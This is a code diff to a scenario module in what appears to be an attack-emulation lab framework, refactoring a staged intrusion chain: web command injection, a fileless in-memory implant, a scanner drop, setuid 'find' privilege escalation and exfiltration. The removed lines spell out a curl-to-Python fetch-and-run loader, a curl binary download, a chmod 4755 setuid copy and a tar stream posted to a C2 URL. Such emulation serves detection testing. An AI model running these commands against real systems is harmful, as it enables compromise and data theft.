@@ -10,17 +10,20 @@ through a misconfigured setuid program, reads the password hashes and scans the 
 from __future__ import annotations
 
 from provarmor.lab import techniques as t
-from provarmor.lab.context import PYTHON, LabContext
+from provarmor.lab.context import LabContext
 from provarmor.lab.payloads import memfd_loader, port_scanner_c, reverse_shell_c
 from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
-from provarmor.lab.scenarios.implants import SCAN_PORTS, drop_dir, scan_targets
+from provarmor.lab.scenarios.implants import SCAN_PORTS, drop_dir, fileless_start, scan_targets
+from provarmor.lab.scenarios.steps import (
+    download,
+    exploit_step,
+    post_to_c2,
+    setuid_copy,
+    web_exploit,
+)
 
 STEPS = (
-    StepSpec(
-        name="exploit",
-        summary="Command injection in the web application runs a shell as the web user.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL),
-    ),
+    exploit_step(),
     StepSpec(
         name="in-memory-implant",
         summary="A Python loader piped from the C2 server writes an ELF into a memfd and "
@@ -77,18 +80,14 @@ def plan(ctx: LabContext) -> Plan:
     targets = " ".join(f"{host}:{port}" for host in scan_targets(ctx) for port in SCAN_PORTS)
     loot = f"{folder}/{ctx.names.token(4)}"
     return Plan(
-        setup_commands=(
-            ("cp", "/usr/bin/find", setuid_find),
-            ("chmod", "4755", setuid_find),
-        ),
+        setup_commands=setuid_copy("/usr/bin/find", setuid_find),
         payloads=(shell_elf, loader, scanner),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="uname -a; id"),
+            web_exploit("uname -a; id"),
             Action(
                 step="in-memory-implant",
                 channel=Channel.WEBSHELL,
-                command=f"nohup sh -c 'curl -s {ctx.payload_url(loader.path)} | {PYTHON} -' "
-                ">/dev/null 2>&1 &",
+                command=fileless_start(ctx.payload_url(loader.path)),
             ),
             Action(
                 step="shell-recon",
@@ -98,8 +97,8 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="drop-binary",
                 channel=Channel.SHELL,
-                command=f"mkdir -p {folder} && curl -s -o {binary} "
-                f"{ctx.payload_url(scanner.path)} && chmod 755 {binary} && ls -la {folder}",
+                command=f"{download(ctx, scanner, binary)} && chmod 755 {binary} "
+                f"&& ls -la {folder}",
             ),
             Action(
                 step="privilege-escalation",
@@ -116,8 +115,7 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="exfiltrate",
                 channel=Channel.SHELL,
-                command=f"tar czf - -C {folder} . | curl -s --data-binary @- "
-                f"{ctx.c2.url}/{ctx.names.token(6)}",
+                command=f"tar czf - -C {folder} . | {post_to_c2(ctx, '@-')}",
             ),
         ),
         artifacts=(folder, setuid_find),
